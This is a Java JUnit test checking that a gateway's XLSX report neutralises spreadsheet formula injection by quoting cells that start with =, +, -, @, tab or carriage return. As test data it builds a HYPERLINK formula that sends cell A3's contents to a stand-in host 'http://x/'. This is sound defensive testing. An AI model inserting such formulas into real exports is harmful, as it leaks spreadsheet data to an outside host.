package cn.sunshine.gateway.reports;

import cn.sunshine.platform.export.SafeCells;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 14: the gateway's XLSX report cannot carry a formula. Every text that reaches it (division,
 * period, a part's name, service and reason, as a service or a caller may shape them) beginning with
 * {@code = + - @}, a tab or a carriage return comes out as an inert text cell with a leading quote.
 */
class ProgressWorkbookFormulaTest {

    static final List<String> DANGEROUS = List.of("=", "+", "-", "@", "\t", "\r");

    @Test
    void everyTextCellOfTheReportIsInert() throws Exception {
        List<String> hostile = new ArrayList<>();
        for (String c : DANGEROUS) {
            hostile.add(c + "HYPERLINK(\"http://x/?\"&A3,\"查看\")");
        }
        Map<String, ProgressReport.PartStatus> parts = new LinkedHashMap<>();
        for (int i = 0; i < hostile.size(); i++) {
            parts.put(hostile.get(i), new ProgressReport.PartStatus(Part.Status.ERROR, hostile.get((i + 1) % hostile.size()),
                    hostile.get((i + 2) % hostile.size())));
        }
        ProgressReport report = new ProgressReport("=1+1", "-2+3", LocalDate.of(2026, 1, 1), LocalDate.of(2026, 3, 31),
                Map.of(), Map.of(), false, parts);

        int quoted = 0;
        List<String> texts = new ArrayList<>();
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(ProgressWorkbook.write(report)))) {
            for (Sheet sheet : book) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).as(sheet.getSheetName() + " " + cell.getAddress())
                                .isIn(CellType.STRING, CellType.NUMERIC, CellType.BLANK);
                        if (cell.getCellType() == CellType.STRING) {
                            String v = cell.getStringCellValue();
                            texts.add(v);
                            assertThat(SafeCells.dangerous(v)).as(cell.getAddress() + ": " + v).isFalse();
                            if (v.startsWith("'") && SafeCells.dangerous(v.substring(1))) {
                                quoted++;
                            }
                        }
                    }
                }
            }
        }
        // each hostile text three times on the sources sheet (part, service, reason), plus division and period
        assertThat(quoted).isEqualTo(hostile.size() * 3 + 2);
        for (String h : hostile) {
            assertThat(texts).contains("'" + h);
        }
        assertThat(texts).contains("'=1+1", "'-2+3", "地区", "Division");
    }
}
